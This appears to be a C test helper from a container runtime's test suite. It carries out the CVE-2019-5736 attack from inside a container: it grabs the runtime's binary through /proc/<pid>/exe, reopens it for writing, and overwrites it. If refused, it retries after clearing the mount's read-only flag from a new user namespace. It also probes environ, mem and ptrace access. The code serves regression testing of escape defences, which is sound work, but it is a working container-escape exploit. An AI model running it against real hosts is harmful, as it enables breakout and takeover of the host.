/* exe_attack: the CVE-2019-5736 attack as published, from inside a container, against
 * whatever the runtime left reachable through /proc/<pid>/exe.
 *
 *   exe_attack FIFO [SOCK]
 *   exe_attack --send SOCK
 *   exe_attack --probe FIFO
 *
 * Makes the fifo FIFO and prints "ready". A victim, started by the test, is a process that
 * executes /proc/self/exe (directly or as a script's interpreter) while its image is still
 * the runtime's, as `RUNTIME --log FIFO state x`: the runtime it ran blocks opening FIFO
 * for writing. The attacker finds it (a process whose exe is neither its own nor
 * /bin/busybox), opens its exe O_PATH, opens FIFO for reading so the victim finishes, and
 * once no one executes that file any more (ETXTBSY gone) reopens it for writing through
 * /proc/self/fd/N and writes. Refused, it then makes a user namespace of its own (in which
 * it holds CAP_SYS_ADMIN), clears the read-only flag of the handle's mount with
 * mount_setattr, and tries again. One report line:
 *
 *   exe=<link> open=<ok|ERRNO> setattr=<ok|ERRNO|-> reopen=<ok|ERRNO|-> write=<ok|ERRNO|->
 *
 * then "done". With SOCK it does not look for the victim itself: it listens on the unix
 * socket SOCK and takes the handle from `exe_attack --send SOCK`, which finds the victim
 * as above in a container of its own, connects to SOCK and passes the handle (SCM_RIGHTS).
 * That is how an init in a pid namespace of its own is attacked: the process that sees it
 * dies with it, the handle lives on in another container.
 *
 * With --probe it makes FIFO, prints "ready" and reads a pid from it: a process the test
 * holds where a runtime's own code still runs in the container (before its last execve).
 * It tries everything a process of the same uid and capabilities would against it, first
 * on a child of its own (the control: the same probes against a process they may reach),
 * then on that pid, one line each:
 *
 *   <control|victim> exe_write=R exe_path=R reopen=R fds=N fd_opened=N environ=R mem=R
 *   ptrace=R
 *
 * R is ok, an errno name, or - (not tried): opening /proc/PID/exe for writing; opening it
 * O_PATH and, when that works, reopening that for writing through /proc/self/fd/N; how many
 * entries /proc/PID/fd lists and how many of them open (O_PATH); reading /proc/PID/environ
 * and opening /proc/PID/mem for reading and writing; PTRACE_SEIZE. Then "done".
 *
 * Exit 0 once the report is printed (or the handle sent), 1 when no victim came. Built
 * static: the busybox rootfs has no libc. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#define ATTR_RDONLY 0x1ULL
#define POLL_TRIES  1000 /* of 10 ms each, for the victim */
#define BUSY_TRIES  500	 /* of 10 ms each, for the victim's end */
#define PAYLOAD	    "#!/bin/sh\necho the runtime was overwritten\n"

struct attr {
	uint64_t set, clr, propagation, userns_fd;
};

static void pause_10ms(void)
{
	nanosleep(&(struct timespec){0, 10 * 1000 * 1000}, NULL);
}

static const char *errno_name(int e)
{
	static const struct {
		int num;
		const char *name;
	} names[] = {{EROFS, "EROFS"},	   {EPERM, "EPERM"},   {EACCES, "EACCES"},
		     {ETXTBSY, "ETXTBSY"}, {EINVAL, "EINVAL"}, {ENOENT, "ENOENT"},
		     {ENOSYS, "ENOSYS"},   {EBADF, "EBADF"},   {ESRCH, "ESRCH"}};
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		if (names[i].num == e)
			return names[i].name;
	static char buf[16];
	snprintf(buf, sizeof(buf), "E%d", e);
	return buf;
}

static bool same_file(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* O_PATH fd of the exe of a process that is neither busybox nor this program; -1 if none. */
static int grab_victim_exe(void)
{
	struct stat self, busybox, st;
	DIR *proc = opendir("/proc");
	if (!proc || stat("/proc/self/exe", &self) < 0 || stat("/bin/busybox", &busybox) < 0) {
		if (proc)
			closedir(proc);
		return -1;
	}
	int found = -1;
	for (struct dirent *e; found < 0 && (e = readdir(proc));) {
		char path[300];
		if (e->d_name[0] < '1' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) == 0 && !same_file(&st, &self) && !same_file(&st, &busybox))
			found = fd;
		else
			close(fd);
	}
	closedir(proc);
	return found;
}

/* Lets the victim finish: it blocks opening the fifo for writing until a reader comes. */
static void release_victim(const char *fifo)
{
	int fd = open(fifo, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	char buf[4096];
	while (read(fd, buf, sizeof(buf)) > 0)
		;
	close(fd);
}

/* Opens the handle for writing once no process executes it any more; errno when not. */
static int reopen_for_write(int handle)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
	for (int i = 0; i < BUSY_TRIES; i++) {
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 || errno != ETXTBSY)
			return fd;
		pause_10ms();
	}
	return -1;
}

static const char *write_payload(int fd)
{
	if (fd < 0)
		return "-";
	ssize_t n = pwrite(fd, PAYLOAD, strlen(PAYLOAD), 0);
	return n == (ssize_t)strlen(PAYLOAD) ? "ok" : n < 0 ? errno_name(errno) : "short";
}

/* The mount of the handle made writable from a user namespace of our own. */
static const char *clear_read_only(int handle)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return errno_name(errno);
	struct attr a = {.clr = ATTR_RDONLY};
	if (syscall(SYS_mount_setattr, handle, "", AT_EMPTY_PATH, &a, sizeof(a)) < 0)
		return errno_name(errno);
	return "ok";
}

static int unix_socket(const char *path, struct sockaddr_un *addr)
{
	memset(addr, 0, sizeof(*addr));
	addr->sun_family = AF_UNIX;
	snprintf(addr->sun_path, sizeof(addr->sun_path), "%s", path);
	return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

/* The handle, from one connection to SOCK; -1 when none came. */
static int receive_handle(const char *sock)
{
	struct sockaddr_un addr;
	int s = unix_socket(sock, &addr);
	if (s < 0 || bind(s, (struct sockaddr *)&addr, sizeof(addr)) < 0 || listen(s, 1) < 0)
		return -1;
	printf("ready\n");
	int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
	close(s);
	if (c < 0)
		return -1;
	char byte, control[CMSG_SPACE(sizeof(int))];
	struct iovec iov = {&byte, 1};
	struct msghdr msg = {.msg_iov = &iov,
			     .msg_iovlen = 1,
			     .msg_control = control,
			     .msg_controllen = sizeof(control)};
	int fd = -1;
	struct cmsghdr *cm = recvmsg(c, &msg, MSG_CMSG_CLOEXEC) == 1 ? CMSG_FIRSTHDR(&msg) : NULL;
	if (cm && cm->cmsg_type == SCM_RIGHTS)
		memcpy(&fd, CMSG_DATA(cm), sizeof(fd));
	close(c);
	return fd;
}

static int send_handle(const char *sock, int handle)
{
	struct sockaddr_un addr;
	int s = unix_socket(sock, &addr);
	if (s < 0 || connect(s, (struct sockaddr *)&addr, sizeof(addr)) < 0) {
		perror("connect");
		return 1;
	}
	char byte = 'h', control[CMSG_SPACE(sizeof(int))] = {0};
	struct iovec iov = {&byte, 1};
	struct msghdr msg = {.msg_iov = &iov,
			     .msg_iovlen = 1,
			     .msg_control = control,
			     .msg_controllen = sizeof(control)};
	struct cmsghdr *cm = CMSG_FIRSTHDR(&msg);
	cm->cmsg_level = SOL_SOCKET;
	cm->cmsg_type = SCM_RIGHTS;
	cm->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(cm), &handle, sizeof(handle));
	int rc = sendmsg(s, &msg, 0) == 1 ? 0 : 1;
	close(s);
	return rc;
}

static int wait_for_victim(void)
{
	int handle = -1;
	for (int i = 0; i < POLL_TRIES && handle < 0; i++, pause_10ms())
		handle = grab_victim_exe();
	return handle;
}

/* Everything after the handle is had: release, wait, reopen, write, report. */
static void attack(int handle, const char *fifo)
{
	char proc[64], link[256] = "?";
	snprintf(proc, sizeof(proc), "/proc/self/fd/%d", handle);
	ssize_t n = readlink(proc, link, sizeof(link) - 1);
	link[n > 0 ? n : 1] = '\0';
	release_victim(fifo);

	int fd = reopen_for_write(handle);
	const char *open_result = fd >= 0 ? "ok" : errno_name(errno);
	const char *setattr = "-", *reopen = "-", *written = write_payload(fd);
	if (fd < 0) {
		setattr = clear_read_only(handle);
		fd = reopen_for_write(handle);
		reopen = fd >= 0 ? "ok" : errno_name(errno);
		written = write_payload(fd);
	}
	printf("exe=%s open=%s setattr=%s reopen=%s write=%s\ndone\n", link, open_result, setattr,
	       reopen, written);
}

/* ---- --probe: a process held before its last execve ---- */

static const char *outcome(int rc)
{
	return rc >= 0 ? "ok" : errno_name(errno);
}

/* Opens /proc/pid/name with flags, and reads a byte when read_one; ok or the errno's
 * name. (mem is only opened: its first page is not mapped.) */
static const char *try_open(int pid, const char *name, int flags, bool read_one)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	int fd = open(path, flags | O_CLOEXEC);
	if (fd < 0)
		return errno_name(errno);
	char byte;
	const char *result = outcome(read_one ? (int)read(fd, &byte, 1) : 0);
	close(fd);
	return result;
}

/* The published way: O_PATH, then a reopen for writing through our own fd directory. */
static void try_exe_path(int pid, const char **path_result, const char **reopen_result)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int handle = open(path, O_PATH | O_CLOEXEC);
	*path_result = outcome(handle);
	*reopen_result = "-";
	if (handle < 0)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	*reopen_result = outcome(fd);
	if (fd >= 0)
		close(fd);
	close(handle);
}

/* How many entries /proc/pid/fd lists (-1: none, not listed) and how many of them open. */
static int try_fds(int pid, int *opened)
{
	char dir[64];
	snprintf(dir, sizeof(dir), "/proc/%d/fd", pid);
	*opened = 0;
	DIR *d = opendir(dir);
	if (!d)
		return -1;
	int listed = 0;
	for (struct dirent *e; (e = readdir(d));) {
		if (e->d_name[0] == '.')
			continue;
		listed++;
		char path[300];
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0) {
			++*opened;
			close(fd);
		}
	}
	closedir(d);
	return listed;
}

/* A successful seize lasts until this process exits, which detaches. */
static const char *try_ptrace(int pid)
{
	return outcome((int)ptrace(PTRACE_SEIZE, pid, NULL, NULL));
}

static void probe(const char *who, int pid)
{
	const char *exe_write = try_open(pid, "exe", O_WRONLY, false), *exe_path, *reopen;
	try_exe_path(pid, &exe_path, &reopen);
	int opened, fds = try_fds(pid, &opened);
	printf("%s exe_write=%s exe_path=%s reopen=%s fds=%d fd_opened=%d environ=%s mem=%s "
	       "ptrace=%s\n",
	       who, exe_write, exe_path, reopen, fds, opened,
	       try_open(pid, "environ", O_RDONLY, true), try_open(pid, "mem", O_RDWR, false),
	       try_ptrace(pid));
}

/* The same probes on a child of ours, which they reach. */
static void probe_control(void)
{
	pid_t child = fork();
	if (child == 0) {
		pause();
		_exit(0);
	}
	if (child < 0) {
		printf("control fork=%s\n", errno_name(errno));
		return;
	}
	probe("control", child);
	kill(child, SIGKILL);
}

static int probe_held(const char *fifo)
{
	if (mkfifo(fifo, 0666) < 0 && errno != EEXIST) {
		perror("mkfifo");
		return 1;
	}
	printf("ready\n");
	FILE *f = fopen(fifo, "r");
	int pid;
	if (!f || fscanf(f, "%d", &pid) != 1) {
		printf("no victim\n");
		return 1;
	}
	fclose(f);
	probe_control();
	probe("victim", pid);
	printf("done\n");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 3 && strcmp(argv[1], "--probe") == 0)
		return probe_held(argv[2]);
	if (argc == 3 && strcmp(argv[1], "--send") == 0) {
		int handle = wait_for_victim();
		return handle < 0 ? 1 : send_handle(argv[2], handle);
	}
	if (argc != 2 && argc != 3) {
		fprintf(stderr,
			"usage: exe_attack FIFO [SOCK] | exe_attack --send SOCK | exe_attack "
			"--probe FIFO\n");
		return 2;
	}
	if (mkfifo(argv[1], 0666) < 0 && errno != EEXIST) {
		perror("mkfifo");
		return 1;
	}
	int handle;
	if (argc == 3) {
		handle = receive_handle(argv[2]);
	} else {
		printf("ready\n");
		handle = wait_for_victim();
	}
	if (handle < 0) {
		printf("no victim\n");
		return 1;
	}
	attack(handle, argv[1]);
	return 0;
}
